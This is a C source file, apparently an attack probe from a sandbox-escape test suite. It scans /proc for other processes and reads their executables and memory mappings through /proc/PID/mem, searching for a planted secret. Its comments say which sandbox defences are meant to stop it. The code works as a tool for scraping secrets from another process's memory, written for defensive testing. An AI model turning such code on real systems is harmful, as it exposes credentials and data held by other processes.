/* Attack: another process's executable and memory through /proc. For every
 * pid visible in /proc but our own (at most 4096): read /proc/PID/exe (the
 * driver runs a copy of sleep that lives outside the view, with the secret
 * appended to it) and every readable mapping listed in /proc/PID/maps
 * through /proc/PID/mem (at most 64 MiB a process; the driver starts that
 * sleep with the secret in its environment, as ferry's own parent holds
 * what --unsetenv removed); then /proc/1/mem explicitly: init is
 * non-dumpable, and its environment is the one ferry started with.
 *
 * Stops it: the sandbox's pid namespace and fresh /proc (the host's
 * processes are not there); /proc/PID/exe is a magic link the gofer will
 * not follow and the broker replaces only for the guest itself; /proc/PID/mem
 * needs ptrace access, which the kernel refuses for the non-dumpable init
 * (no CAP_SYS_PTRACE in the sandbox).
 * Natively: /proc/PID/exe of the driver's sleep reads the secret, or its
 * memory does (ESCAPED).
 *
 * The pids named on the command line (the driver's sleep, by its host pid)
 * are tried first, then every visible one. Only regular reads: nothing is
 * written, nothing stopped.
 *
 * Usage: procmem TOKEN exe|mem [PID...]
 */
#include <ctype.h>
#include <dirent.h>
#include <sys/stat.h>

#include "escape.h"

#define MEM_BUDGET (64UL << 20)

static int exe_open, exe_fail, mem_open, mem_fail;
static unsigned long mem_bytes;

/* True when the rest of fd (read in chunks, overlapping by the token's
 * length) holds the token; the matching text goes to shown. */
static bool scan_fd(int fd, char *shown, size_t shown_len)
{
	static char buf[65536 + 256];
	size_t tlen = strlen(escape_token), keep = 0;
	unsigned long total = 0;
	for (;;) {
		ssize_t n = read(fd, buf + keep, sizeof(buf) - 1 - keep);
		if (n <= 0)
			return false;
		total += (unsigned long)n;
		size_t have = keep + (size_t)n;
		char *hit = memmem(buf, have, escape_token, tlen);
		if (hit) {
			size_t room = have - (size_t)(hit - buf), len = 0;
			while (len < room && len < 80 && isprint((unsigned char)hit[len]))
				len++;
			snprintf(shown, shown_len, "%.*s", (int)len, hit);
			return true;
		}
		keep = have < tlen ? have : tlen - 1;
		memmove(buf, buf + have - keep, keep);
		if (total > MEM_BUDGET)
			return false;
	}
}

static void try_exe(const char *pid)
{
	char path[64], shown[128];
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		exe_fail++;
		return;
	}
	exe_open++;
	if (scan_fd(fd, shown, sizeof(shown)))
		escaped("%s: read \"%s\"", path, shown);
	close(fd);
}

/* Reads every readable mapping of pid through /proc/PID/mem. Returns the
 * open's errno, or 0. */
static int try_mem(const char *pid)
{
	char path[64], line[512], shown[128];
	snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		mem_fail++;
		return errno;
	}
	mem_open++;
	snprintf(path, sizeof(path), "/proc/%s/maps", pid);
	FILE *maps = fopen(path, "re");
	unsigned long budget = MEM_BUDGET;
	static char buf[1 << 20];
	size_t tlen = strlen(escape_token);
	while (maps && fgets(line, sizeof(line), maps) && budget > 0) {
		unsigned long lo, hi;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r')
			continue;
		if (strstr(line, "[vvar") || strstr(line, "[vsyscall]") || strstr(line, "[vdso]"))
			continue;
		for (unsigned long at = lo; at < hi && budget > 0;) {
			size_t want = hi - at < sizeof(buf) ? hi - at : sizeof(buf);
			ssize_t n = pread(fd, buf, want, (off_t)at);
			if (n <= 0)
				break;
			mem_bytes += (unsigned long)n;
			budget = budget > (unsigned long)n ? budget - (unsigned long)n : 0;
			char *hit = memmem(buf, (size_t)n, escape_token, tlen);
			if (hit) {
				size_t len = 0, room = (size_t)n - (size_t)(hit - buf);
				while (len < room && len < 80 && isprint((unsigned char)hit[len]))
					len++;
				snprintf(shown, sizeof(shown), "%.*s", (int)len, hit);
				escaped("/proc/%s/mem at %#lx: read \"%s\"", pid,
				        at + (unsigned long)(hit - buf), shown);
			}
			at += (unsigned long)n;
		}
	}
	if (maps)
		fclose(maps);
	close(fd);
	return 0;
}

static void try_pid(bool exe, const char *pid)
{
	if (exe)
		try_exe(pid);
	else
		try_mem(pid);
}

int main(int argc, char **argv)
{
	escape_init(argc, argv, "procmem", 1, "exe|mem [PID...]");
	bool exe = strcmp(argv[2], "exe") == 0;
	if (!exe && strcmp(argv[2], "mem") != 0)
		setup_failed("unknown mode %s", argv[2]);
	char self[32];
	snprintf(self, sizeof(self), "%d", (int)getpid());
	for (int i = 3; i < argc; i++)
		if (strcmp(argv[i], self) != 0)
			try_pid(exe, argv[i]);
	DIR *proc = opendir("/proc");
	if (!proc)
		setup_failed("opendir /proc: %s", strerror(errno));
	int pids = 0;
	struct dirent *e;
	while ((e = readdir(proc)) && pids < 4096) {
		if (!isdigit((unsigned char)e->d_name[0]) || strcmp(e->d_name, self) == 0)
			continue;
		pids++;
		try_pid(exe, e->d_name);
	}
	closedir(proc);
	if (exe) {
		escape_note("%d other pids; exe: %d opened, %d failed", pids, exe_open, exe_fail);
	} else {
		escape_note("%d other pids; mem: %d opened (%lu bytes read), %d failed", pids,
		            mem_open, mem_bytes, mem_fail);
		int err = try_mem("1");
		escape_note("/proc/1/mem: %s", err ? strerror(err) : "opened, no secret");
	}
	contained();
}
